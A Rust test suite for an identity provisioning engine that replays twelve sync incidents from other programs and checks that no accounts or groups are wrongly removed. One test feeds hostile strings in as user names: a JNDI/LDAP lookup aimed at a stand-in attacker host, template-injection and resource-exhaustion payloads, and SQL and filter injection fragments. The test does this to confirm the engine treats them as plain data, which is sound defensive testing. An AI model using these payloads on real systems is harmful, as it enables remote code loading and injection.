//! The twelve incidents of other programs, replayed on ours (`docs/reliability.md` names their sources).
//! Each ends without harm: what took accounts, groups or memberships there takes nothing here.

use std::collections::BTreeSet;
use std::time::Duration;

use manntall::clock::Clock;
use manntall::core::judge::{Approval, Claims};
use manntall::core::plan::Action;
use manntall::cycle::Engine;
use manntall::sim::entra::{EmptyReads, ExpireLinks, Faults, LoopLinks, Quirks};
use manntall::sim::platform::Resource;
use manntall::sim::world::{Event, ObjectId};
use serde_json::json;

use crate::acceptance::{
    active, assert_right, entitled, happen, next_poll, world, writes, writes_since,
};
use crate::faults::wire::{self, Peer, Wrong};
use crate::history::{approve_all, runtime, settle};
use crate::stage::{Fate, Stage};

/// A municipality that has been carried over.
async fn imported() -> (Stage, Engine) {
    let stage = Stage::new(world(200, 12, 600), 1);
    let mut engine = stage.engine().unwrap();
    settle(&stage, &mut engine).await;
    assert_right(&stage, "after the first import");
    (stage, engine)
}

/// Several hours of it, and not one write.
async fn nothing_is_written(stage: &Stage, engine: &mut Engine) {
    let before = writes(stage);
    for pause in [61, 61, 700, 3_700, 3_700, 40_000] {
        stage.pass(Duration::from_secs(pause)).await;
        stage.drive(engine).await.unwrap();
        assert_eq!(writes_since(stage, before), [], "after {pause} s");
        // A hold without changes is a question about what was read.
        let held = engine.holds().iter().find(|hold| hold.finding.is_none());
        assert!(held.is_none(), "{held:?}");
    }
    assert_right(stage, "while it lasts");
}

async fn heals(stage: &Stage, engine: &mut Engine) {
    stage.lock().entra.faults = Faults::default();
    wire::switch_off(stage);
    for pause in [3_700, 61] {
        stage.pass(Duration::from_secs(pause)).await;
        stage.drive(engine).await.unwrap();
    }
    assert!(engine.source_troubles().is_empty(), "{:?}", engine.source_troubles());
    assert_right(stage, "after it");
}

/// Nothing is written while it lasts, somebody hears of it, and it passes.
async fn is_told_and_heals(stage: &Stage, engine: &mut Engine) {
    nothing_is_written(stage, engine).await;
    assert!(!engine.source_troubles().is_empty(), "nobody hears of it");
    heals(stage, engine).await;
}

/// I1: a run that saw nobody removed everybody. Zero is only one case: a read without a third of the
/// people is the same.
#[test]
fn ssosync_2024_zero_users_read_removes_nobody() {
    for how in [EmptyReads::CountZero, EmptyReads::CountTrue] {
        runtime().block_on(async {
            let (stage, mut engine) = imported().await;
            stage.lock().entra.faults = Faults {
                empty_full_reads: Some(how),
                expire_links: Some(ExpireLinks::Gone),
                ..Faults::default()
            };
            is_told_and_heals(&stage, &mut engine).await;
        });
    }
}

#[test]
fn ssosync_2024_a_third_of_the_users_missing_removes_nobody() {
    runtime().block_on(async {
        let (stage, mut engine) = imported().await;
        {
            let mut inner = stage.lock();
            inner.entra.options.page_size_max = 60;
            inner.entra.faults.expire_links = Some(ExpireLinks::Gone);
            // A page of users and a page of groups, of every complete read.
            inner.entra.faults.lose_pages = 2;
        }
        let before = writes(&stage);
        for pause in [61, 700, 3_700, 3_700] {
            stage.lock().entra.faults.lose_pages = 2;
            stage.pass(Duration::from_secs(pause)).await;
            stage.drive(&mut engine).await.unwrap();
            assert_eq!(writes_since(&stage, before), []);
        }
        heals(&stage, &mut engine).await;
    });
}

/// I2: members were taken out of random groups and put back by the next run. A member list counts only
/// when it is whole.
#[test]
fn ssosync_2025_half_a_member_list_takes_nobody_out_of_a_group() {
    runtime().block_on(async {
        let (stage, mut engine) = imported().await;
        // Every group in pieces, read from the start again and again, each time broken off half way.
        stage.lock().entra.quirks = Quirks { split_groups: 100, short_pages: 60, ..Quirks::all(0) };
        for victim in [1, 3, 5, 8, 13] {
            stage.lock().entra.faults.expire_links = Some(ExpireLinks::Gone);
            let mut pages = 0;
            wire::meddle(&stage, move |request| {
                let groups = request.url.path().contains("/groups/delta");
                pages += u32::from(groups);
                let broken = Wrong::Status(500, None);
                (groups && pages > victim && pages < victim + 12).then(|| broken.fate())
            });
            let before = writes(&stage);
            next_poll(&stage).await;
            stage.drive(&mut engine).await.unwrap();
            assert_eq!(writes_since(&stage, before), [], "broken off at page {victim}");
        }
        stage.lock().entra.quirks = Quirks::default();
        heals(&stage, &mut engine).await;
    });
}

/// I3: groups that the program had not made were deleted.
#[test]
fn ssosync_2022_accounts_and_groups_of_others_are_left_alone() {
    runtime().block_on(async {
        let stage = Stage::new(world(200, 12, 600), 1);
        let (user, group) = {
            let mut inner = stage.lock();
            let account =
                json!({ "userName": "tower@platform.example.no", "displayName": "Tower" });
            let twins = manntall::sim::platform::Twins::Refused;
            let user = inner.platform.insert_user(&account, twins).unwrap();
            let members = json!([{ "value": user }]);
            let group = json!({ "displayName": "AWSControlTowerAdmins", "members": members });
            (user, inner.platform.insert_group(&group).unwrap())
        };
        let as_made = |stage: &Stage| {
            let inner = stage.lock();
            let user = inner.platform.user(&user).unwrap();
            let group = inner.platform.group(&group).unwrap();
            assert!(user.active() && group.members == [user.id.clone()].into());
            (user.attributes.clone(), group.attributes.clone())
        };
        let before = as_made(&stage);
        let mut engine = stage.engine().unwrap();
        settle(&stage, &mut engine).await;
        let mut rng = fastrand::Rng::with_seed(22);
        for _ in 0..12 {
            for _ in 0..10 {
                let event = stage.lock().world.random_event(&mut rng).unwrap();
                happen(&stage, event);
            }
            next_poll(&stage).await;
            settle(&stage, &mut engine).await;
        }
        assert_eq!(as_made(&stage), before);
        let touched = [format!("Users/{user}"), format!("Groups/{group}")];
        assert!(stage.lock().platform.writes.iter().all(|write| !touched.contains(&write.target)));
    });
}

/// I4: the directory could not be reached; that was taken for "no users", and all were deleted.
#[test]
fn opnsense_2026_an_unreachable_directory_is_not_an_empty_one() {
    for wrong in [Wrong::Refused, Wrong::Stalled, Wrong::Empty, Wrong::Status(502, None)] {
        runtime().block_on(async {
            let (stage, mut engine) = imported().await;
            wire::switch_on(&stage, Peer::Graph, &wrong);
            nothing_is_written(&stage, &mut engine).await;
            let troubles = engine.source_troubles();
            assert!(troubles.values().all(|one| one.code == 69) && !troubles.is_empty());
            heals(&stage, &mut engine).await;
        });
    }
}

/// I5: after a time-out, and after the password had been changed, imported users were removed.
#[test]
fn keycloak_2023_a_time_out_or_a_changed_secret_removes_nobody() {
    runtime().block_on(async {
        let (stage, mut engine) = imported().await;
        wire::switch_on(&stage, Peer::Graph, &Wrong::Stalled);
        nothing_is_written(&stage, &mut engine).await;
        heals(&stage, &mut engine).await;

        // The secret is changed in Entra alone; the token in hand dies.
        stage.lock().entra.options.client_secret = "another".to_owned();
        stage.pass(Duration::from_secs(4_000)).await;
        nothing_is_written(&stage, &mut engine).await;
        let refused = engine.source_troubles().values().all(|one| one.code == 12);
        assert!(refused, "{:?}", engine.source_troubles());
        stage.lock().held_secret = "another".to_owned();
        heals(&stage, &mut engine).await;
    });
}

/// I6: one option lifted every guard and emptied organisations. An approval here covers the list that
/// was shown, and nobody who comes after.
#[test]
fn bitwarden_2021_no_single_yes_lifts_every_guard() {
    runtime().block_on(async {
        let (stage, mut engine) = imported().await;
        let people = entitled(&stage);
        let (first, rest) = people.split_at(60);
        for user in first {
            happen(&stage, Event::Disable { user: *user });
        }
        next_poll(&stage).await;
        stage.drive(&mut engine).await.unwrap();
        let held = engine.holds().iter().map(|hold| hold.claims.len()).sum::<usize>();
        assert_eq!(held, 60);
        approve_all(&stage, &mut engine);
        // Before it is done, everybody else is disabled too.
        for user in rest {
            happen(&stage, Event::Disable { user: *user });
        }
        next_poll(&stage).await;
        stage.drive(&mut engine).await.unwrap();
        let gone = first.iter().filter(|user| active(&stage, **user) == Some(false)).count();
        assert_eq!(gone, 60, "what was approved is done");
        assert!(rest.iter().all(|user| active(&stage, *user) == Some(true)), "nothing else is");
        assert!(!engine.holds().is_empty());
    });
}

/// An approval of something else than what is planned clears nothing.
#[test]
fn bitwarden_2024_a_yes_to_another_list_is_worth_nothing() {
    runtime().block_on(async {
        let (stage, mut engine) = imported().await;
        let people = entitled(&stage);
        for user in &people[..60] {
            happen(&stage, Event::Disable { user: *user });
        }
        next_poll(&stage).await;
        stage.drive(&mut engine).await.unwrap();
        let now = stage.clock.now();
        let until = now.plus(Duration::from_secs(3_600));
        let all_but_nothing =
            Approval { claims: Claims::new(), by: "tester".into(), at: now, until, hold: None };
        engine.approve(all_but_nothing);
        let before = writes(&stage);
        next_poll(&stage).await;
        stage.drive(&mut engine).await.unwrap();
        assert_eq!(writes_since(&stage, before), []);
    });
}

/// I7: ids of one kind were given where another kind was meant, and 883 sites were deleted. The ids of
/// our side and of the target are types of their own, so that cannot be written down; what can go wrong
/// is that the target answers for another account. Nothing is deleted, ever: accounts are deactivated.
#[test]
fn atlassian_2022_an_id_of_something_else_deletes_nothing() {
    runtime().block_on(async {
        let (stage, mut engine) = imported().await;
        let people = entitled(&stage);
        let ids: Vec<String> = {
            let inner = stage.lock();
            inner.platform.groups().map(|group| group.id.clone()).collect()
        };
        // Every answer about an account says that it is about a group.
        let mut turn = 0;
        wire::meddle(&stage, move |request| {
            turn += 1;
            let id = ids[turn % ids.len()].clone();
            let users = request.url.path().contains("/scim/v2/Users/");
            users.then(|| {
                Fate::Change(Box::new(move |mut response| {
                    if let Ok(mut body) =
                        serde_json::from_slice::<serde_json::Value>(&response.body)
                    {
                        body["id"] = id.into();
                        response.body = body.to_string().into();
                    }
                    response
                }))
            })
        });
        let leaver = people[0];
        happen(&stage, Event::Disable { user: leaver });
        let name = "jobTitle".to_owned();
        let value = json!("Sjef");
        happen(&stage, Event::SetProperty { user: people[1], name, value });
        for _ in 0..3 {
            next_poll(&stage).await;
            stage.drive(&mut engine).await.unwrap();
        }
        let deletes = stage.lock().platform.writes.iter().filter(|w| w.method == "DELETE").count();
        assert_eq!(deletes, 0);
        assert!(people[1..].iter().all(|user| active(&stage, *user) == Some(true)));
        wire::switch_off(&stage);
        engine.retry_all();
        settle(&stage, &mut engine).await;
        next_poll(&stage).await;
        settle(&stage, &mut engine).await;
        assert_right(&stage, "after it");
    });
}

/// I8: a group sync replaced the members that somebody had put in by hand.
#[test]
fn casdoor_2026_members_put_in_by_hand_stay() {
    runtime().block_on(async {
        let stage = Stage::new(world(200, 12, 600), 1);
        let (guest, local, name) = {
            let mut inner = stage.lock();
            let twins = manntall::sim::platform::Twins::Refused;
            let account = json!({ "userName": "konsulent@platform.example.no" });
            let guest = inner.platform.insert_user(&account, twins).unwrap();
            let theirs = json!({ "displayName": "Prosjekt", "members": [{ "value": guest }] });
            let local = inner.platform.insert_group(&theirs).unwrap();
            let mut names = inner.world.live_groups().map(|one| one.text("displayName").unwrap());
            let name = names.find(|name| name.starts_with("PLT ")).unwrap().replace("PLT ", "");
            (guest, local, name)
        };
        // A group of the same name is there already, with that consultant in it: it is adopted.
        let shared = {
            let body = json!({ "displayName": name, "members": [{ "value": guest }] });
            stage.lock().platform.insert_group(&body).unwrap()
        };
        let mut engine = stage.engine().unwrap();
        settle(&stage, &mut engine).await;
        let mut rng = fastrand::Rng::with_seed(8);
        for _ in 0..10 {
            for _ in 0..10 {
                let event = stage.lock().world.random_event(&mut rng).unwrap();
                happen(&stage, event);
            }
            next_poll(&stage).await;
            settle(&stage, &mut engine).await;
            let inner = stage.lock();
            let is_in = |group: &Resource| group.members.contains(&guest);
            assert!(inner.platform.group(&local).is_some_and(is_in), "the consultant's own group");
            if let Some(group) = inner.platform.group(&shared) {
                assert!(is_in(group), "the consultant was thrown out of a shared group");
            }
        }
    });
}

/// I9: a sync wrote one user's id and password into the server's settings. What a person is called
/// reaches the platform as data and nothing else: no rule and no setting of ours changes.
#[test]
fn mattermost_2018_what_a_person_is_called_changes_no_rule() {
    runtime().block_on(async {
        let (stage, mut engine) = imported().await;
        let people = entitled(&stage);
        let names = [
            "{{ person.accountEnabled }}",
            "{% for x in range(99999999) %}{% endfor %}",
            "${jndi:ldap://evil.example.no}",
            "active=false",
            "\"] eq true or userName pr",
            "'; drop",
        ];
        for (user, text) in people.iter().zip(names) {
            for name in ["displayName", "department", "jobTitle"] {
                let value = json!(text);
                happen(&stage, Event::SetProperty { user: *user, name: name.to_owned(), value });
            }
        }
        next_poll(&stage).await;
        settle(&stage, &mut engine).await;
        next_poll(&stage).await;
        settle(&stage, &mut engine).await;
        // The oracle compares every name to the letter, and everybody's account with the one rule.
        assert_right(&stage, "with names that look like code");
    });
}

/// I10: removing a group removed its people.
#[test]
fn openproject_2020_a_group_that_goes_takes_nobody_with_it() {
    runtime().block_on(async {
        let (stage, mut engine) = imported().await;
        let groups: Vec<ObjectId> = {
            let inner = stage.lock();
            let carried = inner
                .world
                .live_groups()
                .filter(|group| group.text("displayName").unwrap_or_default().starts_with("PLT "));
            carried.map(|group| group.id).collect()
        };
        let before = engine.state().journal().unwrap().len();
        for group in &groups {
            happen(&stage, Event::DeleteGroup { group: *group });
        }
        next_poll(&stage).await;
        settle(&stage, &mut engine).await;
        let journal = engine.state().journal().unwrap().split_off(before);
        let actions: BTreeSet<Action> = journal.iter().map(|record| record.action).collect();
        assert_eq!(actions, [Action::GroupDelete].into(), "no cascade");
        assert!(entitled(&stage).iter().all(|user| active(&stage, *user) == Some(true)));
        assert_right(&stage, "without those groups");
    });
}

/// I11: `accountEnabled` came back null for everybody; elsewhere fields vanished after the first page.
#[test]
fn graph_2022_account_enabled_null_for_everybody_deactivates_nobody() {
    runtime().block_on(async {
        let (stage, mut engine) = imported().await;
        stage.lock().entra.faults = Faults {
            account_enabled_null: true,
            expire_links: Some(ExpireLinks::Gone),
            ..Faults::default()
        };
        is_told_and_heals(&stage, &mut engine).await;
    });
}

#[test]
fn graph_2022_fields_that_vanish_after_the_first_page_clear_nothing() {
    let fields = ["accountEnabled", "displayName", "jobTitle", "department", "userPrincipalName"];
    for field in fields {
        runtime().block_on(async {
            let (stage, mut engine) = imported().await;
            {
                let mut inner = stage.lock();
                inner.entra.options.page_size_max = 60;
                inner.entra.faults.expire_links = Some(ExpireLinks::Gone);
            }
            wire::meddle(&stage, move |request| {
                let later = request.url.query().is_some_and(|query| query.contains("skiptoken"));
                later.then(|| {
                    Fate::Change(Box::new(move |mut response| {
                        let mut body: serde_json::Value =
                            serde_json::from_slice(&response.body).unwrap();
                        for object in body["value"].as_array_mut().into_iter().flatten() {
                            object.as_object_mut().unwrap().remove(field);
                        }
                        response.body = body.to_string().into();
                        response
                    }))
                })
            });
            nothing_is_written(&stage, &mut engine).await;
            heals(&stage, &mut engine).await;
        });
    }
}

/// I12: the same user on several pages, and next links that answer 404.
#[test]
fn graph_2021_repeated_users_and_dead_next_links_make_no_duplicates() {
    runtime().block_on(async {
        let stage = Stage::new(world(200, 12, 600), 1);
        {
            let mut inner = stage.lock();
            inner.entra.options.page_size_max = 15;
            inner.entra.quirks =
                Quirks { duplicates: 90, replays: 90, short_pages: 40, ..Quirks::all(0) };
        }
        // Every seventh next link is dead.
        let mut links = 0;
        wire::meddle(&stage, move |request| {
            let next = request.url.query().is_some_and(|query| query.contains("skiptoken"));
            links += u32::from(next);
            let dead = Wrong::Status(404, None);
            (next && links % 7 == 0 && links < 60).then(|| dead.fate())
        });
        let mut engine = stage.engine().unwrap();
        for _ in 0..6 {
            settle(&stage, &mut engine).await;
            next_poll(&stage).await;
        }
        assert_right(&stage, "in spite of it");
        stage.lock().entra.faults.loop_links = Some(LoopLinks::SameLink);
        let before = writes(&stage);
        next_poll(&stage).await;
        stage.drive(&mut engine).await.unwrap();
        assert_eq!(writes_since(&stage, before), []);
    });
}
